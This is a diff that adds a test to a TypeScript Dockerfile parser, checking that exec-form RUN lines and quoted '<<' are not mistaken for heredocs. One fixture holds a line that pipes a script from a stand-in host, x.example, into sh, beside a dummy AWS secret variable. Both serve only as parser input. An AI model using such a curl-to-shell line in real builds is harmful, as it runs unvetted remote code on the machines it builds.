@@ -74,6 +74,26 @@ describe('parseLean', () => {
     }
   });
 
+  it('reads no heredoc from an exec-form RUN or a quoted <<, as BuildKit does (the stock parser swallows the rest)', () => {
+    const keywords = (text: string) => parseLean(text).getInstructions().map((i) => i.getKeyword());
+    const stock = (text: string) => DockerfileParser.parse(text).getInstructions().map((i) => i.getKeyword());
+    const exec = 'FROM alpine\nRUN ["sh", "-c", "echo <<EOF"]\nRUN curl -fsSL https://x.example/i.sh | sh\nENV AWS_SECRET_ACCESS_KEY=x\n';
+    assert.deepEqual(keywords(exec), ['FROM', 'RUN', 'RUN', 'ENV']);
+    assert.deepEqual(stock(exec), ['FROM', 'RUN'], 'dockerfile-ast alone swallows the rest of the file');
+    for (const quoted of ['RUN echo "x <<EOF"', "RUN echo 'x <<EOF'", 'RUN echo \\<<EOF', 'ADD ["<<EOF", "/x"]', 'COPY --chown=1:1 ["<<EOF", "/x"]']) {
+      assert.deepEqual(keywords(`FROM alpine\n${quoted}\nUSER root\n`), ['FROM', quoted.split(' ')[0], 'USER'], quoted);
+    }
+    // Still heredocs: a quoted delimiter, flags before it, a comment line with a quote inside the continuation.
+    for (const text of [
+      'FROM alpine\nRUN cat <<"EOF"\nUSER in-body\nEOF\nUSER 1\n',
+      'FROM alpine\nRUN --mount=type=cache,target=/c <<EOF\nUSER in-body\nEOF\nUSER 1\n',
+      "FROM alpine\nRUN echo a \\\n# don't\n  && cat <<EOF\nUSER in-body\nEOF\nUSER 1\n",
+    ]) {
+      assert.deepEqual(keywords(text), ['FROM', 'RUN', 'USER'], text);
+      assert.deepEqual(projection(parseLean(text) as never), projection(DockerfileParser.parse(text)), text);
+    }
+  });
+
   it('builds typed instructions only where parse.ts reads them, and for text holding <<', () => {
     const doc = parseLean('FROM alpine\nARG A\nRUN echo x\nRUN <<EOF\necho\nEOF\nCMD ["a"]\n');
     const base = doc.getInstructions().map((i) => i.constructor === BaseInstruction);
